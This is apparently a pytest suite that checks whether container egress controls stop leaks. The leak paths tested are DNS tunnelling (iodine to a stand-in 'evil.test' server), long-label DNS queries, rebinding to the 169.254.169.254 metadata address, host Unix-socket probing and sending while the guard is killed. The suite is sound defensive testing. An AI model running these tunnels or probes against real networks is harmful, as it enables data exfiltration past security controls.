# SPDX-License-Identifier: MIT
"""The gauntlet for containers, what is not about frames: names, tunnels through name servers, sockets of
the host, the sibling, the guard's death, addresses that are kept for longer than they may be."""

import json
import os
import random
import signal
import subprocess
import time

import pytest

from conftest import Process, wait_until
from egress_lab import NAMESERVER, NSENTER, ZONE, lab, sh  # noqa: F401 (a fixture)
from engines import ALLOWED
from test_t_gauntlet_containers import (API, DB, PYTHON, WEB, Box, box, nothing_left, podman, policy,  # noqa: F401
                                        pytestmark, ruled, service, street)

TYPES = ("A", "AAAA", "TXT", "NULL", "HTTPS", "SVCB", "MX", "ANY", "SRV", "CNAME", "PTR", "CAA", "TYPE65399")
TUNNEL = "203.0.113.54"


def test_questions_of_every_type(lab, box):
    mark = lab.mark()
    script = "".join("dig +tries=1 +time=2 %s %s.evil.test; dig +tries=1 +time=2 @198.51.100.53 %s %s.evil.test; "
                     % (kind, "a" * 60, kind, "b" * 60) for kind in TYPES)
    done = box.sh(script + "dig +tcp +tries=1 +time=2 @%s TXT tcp.evil.test" % NAMESERVER)
    asked = {q["name"] for q in lab.questions(mark)}
    if box.tier == "open":
        assert {"a" * 60 + ".evil.test", "tcp.evil.test"} <= asked, asked
    else:
        assert done.stdout.count("NXDOMAIN") == 2 * len(TYPES) + 1, done.stdout
        assert not asked


@pytest.fixture(scope="module")
def iodined(lab):
    p = Process([NSENTER, "--net=/run/netns/" + lab.world, "/usr/sbin/iodined", "-f", "-c", "-P", "secret", "-l", TUNNEL,
                 "10.98.0.1", "t.evil.test"])
    wait_until(lambda: "listening" in "".join(p.output()).lower(), 10, "iodined")
    yield TUNNEL
    p.end()


def test_a_tunnel_of_iodine(lab, iodined, box):
    """With a tun device, to its own server and through the name server that is configured."""
    mark = lab.mark()
    done = box.sh("timeout 12 iodine -f -P secret %s t.evil.test 2>&1 & timeout 8 iodine -f -r -P secret %s t.evil.test 2>&1 & "
                  "for i in $(seq 40); do ip addr show dns0 2>/dev/null | grep 'inet 10.98' && break; sleep 0.2; done; wait"
                  % (iodined, NAMESERVER))
    packets = [p for p in lab.packets(mark) if p["dst"] == TUNNEL]
    assert "Opened dns0" in done.stdout, done  # the tun device is real
    if box.tier == "open":
        assert packets and lab.questions(mark), done
    else:
        assert "inet 10.98" not in done.stdout, done
        assert not packets and not lab.questions(mark)


def test_bytes_that_are_no_question(lab, box):
    script = r"""
import socket
for to in ("203.0.113.53", "198.51.100.53", "203.0.113.66", "8.8.8.8"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for piece in (b"", b"x", b"GLT-dns;" * 60, b"\0" * 12, b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + b"\xc0\x0c" * 20, bytes(60000)):
        try:
            s.sendto(piece, (to, 53))
        except OSError:
            pass
    try:
        t = socket.create_connection((to, 53), 1)
        t.sendall(b"\0\x50" + b"GLT-dns;" * 40)
        t.close()
    except OSError:
        pass
"""
    mark = lab.mark()
    seen = lab.mark()["packets.jsonl"]
    assert box.execute(PYTHON, "-c", script).returncode == 0
    time.sleep(0.5)
    left = [p for p in lab.lines("packets.jsonl")[seen:] if p["dport"] == 53]
    assert bool(left) == (box.tier == "open"), left[:5]
    assert box.tier == "open" or not lab.packets(mark)


def test_a_name_server_that_rebinds(lab, street, ruled):
    name = "flip-%s.example.test" % ruled.tier
    lab.zone({**ZONE, name: {"script": [{"A": ["203.0.113.11"], "ttl": 0}, {"A": ["169.254.169.254"], "ttl": 0},
                                        {"A": ["10.20.30.40"], "ttl": 0}, {"A": [street.gateway[1]], "ttl": 0},
                                        {"A": [street.sibling.four], "ttl": 0}]}})
    text = lab.policy(name + ":80", name + ":9999")
    other = Box(ruled.podman, ruled.service, ruled.tier, text)
    try:
        mark = lab.mark()
        done = other.sh("for i in 1 2 3 4 5 6; do curl -sS -m 5 http://%s/; echo; curl -s -m 2 telnet://%s:9999 </dev/null; "
                        "sleep 0.2; done; for a in 169.254.169.254 10.20.30.40 %s %s; do "
                        "curl -sS -m 3 -H 'Host: %s' http://$a/; curl -s -m 2 telnet://$a:9999 </dev/null; done"
                        % (name, name, street.gateway[1], street.sibling.four, name))
        answers = [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]
        assert answers and {a["to"] for a in answers} == {"203.0.113.11"}, done
        nothing_left(lab, street, mark, (WEB, (WEB[0], 9999)))
    finally:
        other.remove()
        lab.zone(ZONE)


def test_another_name_on_a_shared_address(lab, street, ruled):
    other = Box(ruled.podman, ruled.service, ruled.tier, lab.policy("api.example.test"))
    try:
        mark = lab.mark()
        command = "curl -sS -m 5 -k --resolve %s:443:203.0.113.10 https://%s/"
        assert '"to": "203.0.113.10"' in other.sh(command % (("api.example.test",) * 2)).stdout
        done = other.sh(command % (("shared.example.test",) * 2) + "; curl -sS -m 5 -k https://203.0.113.10/; "
                        "curl -sS -m 5 -k --resolve evil.test:443:203.0.113.10 https://evil.test/")
        assert '"to"' not in done.stdout, done
        nothing_left(lab, street, mark, (API, ("2001:db8:1::10", 443)))
        assert {c["sni"] for c in lab.connections(mark)} == {"api.example.test"}
    finally:
        other.remove()


# -- other ways ---------------------------------------------------------------------------------------

VSOCK = r"""
import json, socket
try:
    s = socket.socket(40, socket.SOCK_STREAM)
    s.bind((0xffffffff, 9998))  # any of its own; what listens elsewhere is not the test's to ask
    s.listen()
    print(json.dumps("open"))
except OSError as e:
    print(json.dumps(e.errno))
"""


def test_vsock_is_not_of_the_network(lab, street, ruled):
    """An engine's list of system calls decides about AF_VSOCK, which belongs to no network namespace: what
    it reaches is the hypervisor's matter. There is no device of it, and by IP nothing leaves for it."""
    mark = lab.mark()
    done = ruled.execute(PYTHON, "-c", VSOCK)
    assert done.returncode == 0, done
    assert json.loads(done.stdout) in ("open", 1, 22, 97), done  # EPERM, EINVAL, EAFNOSUPPORT
    assert ruled.sh("test -e /dev/vsock").returncode != 0
    nothing_left(lab, street, mark)


def test_no_socket_of_the_host_is_in_it(lab, ruled):
    script = r"""
import json, os, socket, sys
reached = []
for path in json.loads(sys.argv[1]):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect(path.replace("@", "\0", 1) if path[0] == "@" else path)
        reached.append(path)
    except OSError:
        pass
for top in ("/run", "/var", "/tmp", "/dev"):
    for folder, _, names in os.walk(top):
        reached += [os.path.join(folder, n) for n in names if os.path.exists(os.path.join(folder, n)) and
                    os.stat(os.path.join(folder, n)).st_mode >> 12 == 12]
print(json.dumps(reached))
"""
    abstract = "gauntlet-%d" % os.getpid()
    outside = Process(lab.host_argv() + [PYTHON, "-c", "import socket; s = socket.socket(socket.AF_UNIX); s.bind('\\0%s'); "
                                         "s.listen(); print('up', flush=True); s.accept()" % abstract])
    try:
        outside.wait_line(lambda line: line == "up")
        there = subprocess.run(["find", "/run", "/tmp", str(lab.place), "-type", "s"], capture_output=True, text=True).stdout.split()
        assert any(path.endswith("egress.sock") for path in there)
        done = ruled.execute(PYTHON, "-c", script, json.dumps(["@" + abstract, ruled.service.socket, *there]))
        assert json.loads(done.stdout) == [], done
        # A container in the host's network namespace would reach the abstract one: it is there.
        done = lab.from_host(PYTHON, "-c", script, json.dumps(["@" + abstract]))
        assert "@" + abstract in json.loads(done.stdout)
    finally:
        outside.end()


def test_a_sibling_does_not_reach_it(lab, street, podman, service, policy):
    """TCP and UDP to a listener in the container, from the sibling and the host."""
    script = r"""
import socket, threading
u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
t = socket.create_server(("::", 9997), family=socket.AF_INET6, dualstack_ipv6=True)
u.bind(("::", 9997))
def tcp():
    while True:
        c, a = t.accept()
        print("accepted", a[0], flush=True)
        c.sendall(b"GLT-from-inside;")
threading.Thread(target=tcp, daemon=True).start()
print("ready", flush=True)
while True:
    piece, a = u.recvfrom(2000)
    print("datagram", a[0], flush=True)
    u.sendto(b"GLT-from-inside;", a)
"""
    for tier in ("open", "veth"):
        b = Box(podman, service, tier, policy)
        inside = Process(podman.floor.argv(*podman.base, "exec", b.name, PYTHON, "-c", script))
        try:
            inside.wait_line(lambda line: line == "ready")
            street.again()
            mark = lab.mark()
            answers = []
            for net in (street.sibling.net, lab.host_argv()):
                for address in (b.four, b.six):
                    for kind in ("STREAM", "DGRAM"):
                        done = subprocess.run([*net, PYTHON, "-c", "import socket; s = socket.socket(socket.AF_INET%s, socket.SOCK_%s); "
                                               "s.settimeout(1.5); s.connect(('%s', 9997)); s.send(b'x'); print(s.recv(100))"
                                               % ("6" if ":" in address else "", kind, address)], capture_output=True, text=True)
                        answers.append("inside" in done.stdout)
            if tier == "open":
                assert all(answers), answers
            else:
                assert not any(answers), answers
                assert not [line for line in inside.output() if line.startswith("accepted")], inside.output()
                nothing_left(lab, street, mark)
        finally:
            inside.end()
            b.remove()


# -- time ---------------------------------------------------------------------------------------------

DEATHS = 50
PROBER = r"""
import socket, threading, time
def one(kind, host, port):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    while True:
        try:
            s = socket.socket(family, kind)
            s.setblocking(False)
            s.connect_ex((host, port))
            s.send(b"GLT-prober;")
        except OSError:
            pass
        s.close()
        time.sleep(0.001)
for host, port in (("203.0.113.66", 9999), ("2001:db8:1::66", 9999), ("169.254.169.254", 80), ("203.0.113.12", 22),
                   *PLACES):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        threading.Thread(target=one, args=(kind, host, port), daemon=True).start()
time.sleep(100000)
"""


def test_nothing_leaves_while_the_guard_is_killed(lab, street, ruled):
    places = [(a, 9999) for a in (street.gateway[1], street.host[1], street.sibling.four, street.sibling.six)]
    street.again()
    mark = lab.mark()
    prober = Process(ruled.podman.floor.argv(*ruled.podman.base, "exec", ruled.name, PYTHON, "-c",
                                             PROBER.replace("*PLACES", repr(places)[1:-1])))
    try:
        killed, dice = set(), random.Random(7)
        while len(killed) < DEATHS:
            pid = wait_until(lambda: (lambda g: g if g and g not in killed else 0)(
                ruled.service.one(ruled.sandbox)["guard"]["pid"]), 15, "a new guard")
            time.sleep(dice.random() * 0.05)
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
            killed.add(pid)
        assert prober.alive(), prober.output()
    finally:
        prober.end()
    ruled.service.wait_enforced(ruled.sandbox)
    wait_until(lambda: ruled.reach(ALLOWED, 5) == ["answered"] * len(ALLOWED), 15, "what is allowed answers again")
    nothing_left(lab, street, mark)


@pytest.mark.long
def test_an_address_is_refused_when_its_time_is_over(lab, street, ruled):
    """A name's address on a port that has no name check: 30 s at least, and a minute of grace. What is open
    lives on and keeps its address."""
    lab.zone({**ZONE, "db.example.test": {"A": ["203.0.113.12"], "ttl": 1}, "db2.example.test": {"A": ["203.0.113.13"], "ttl": 1}})
    b = Box(ruled.podman, ruled.service, ruled.tier, lab.policy("db.example.test:5432/tcp", "db2.example.test:5432/tcp"))
    script = r"""
import socket, sys, time
def tries(host):
    try:
        with socket.create_connection((host, 5432), 3) as s:
            return bool(s.recv(10))
    except OSError:
        return False
held = socket.create_connection(("db2.example.test", 5432), 5)
held.recv(100)
socket.getaddrinfo("db.example.test", 5432)
print("first", tries("203.0.113.12"), tries("203.0.113.13"), flush=True)
for i in range(11):
    time.sleep(10)
    held.sendall(b"still")
    assert held.recv(100) == b"still"
print("later", tries("203.0.113.12"), tries("203.0.113.13"), flush=True)
print("again", tries("db.example.test"), tries("203.0.113.12"), flush=True)
held.close()
"""
    try:
        mark = lab.mark()
        done = ruled.podman.floor.run(*ruled.podman.base, "exec", b.name, PYTHON, "-c", script, timeout=200)
        assert done.stdout.splitlines() == ["first True True", "later False True", "again True True"], done
        nothing_left(lab, street, mark, (DB, ("203.0.113.13", 5432)))
    finally:
        b.remove()
        lab.zone(ZONE)


def test_what_is_queued_when_it_ends_stays_in(lab, street, podman, service, policy):
    """A slow queue in the container's namespace sends on after its last process, until the engine takes
    the interface away: the interface is shut before the rules go."""
    script = "/usr/sbin/tc qdisc add dev eth0 root tbf rate 200kbit burst 3000 limit 3000000 && " + PYTHON + r""" -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(400):
    s.sendto(b"GLT-queued;" + bytes(900), ("203.0.113.66", 9999))
'"""
    for tier in ("open", "veth"):
        b = Box(podman, service, tier, policy)
        street.again()
        mark = lab.mark()
        done = b.sh(script)
        assert done.returncode == 0, done
        b.remove()
        if tier == "open":
            assert "world: mark queued" in street.seen()
        else:
            nothing_left(lab, street, mark)
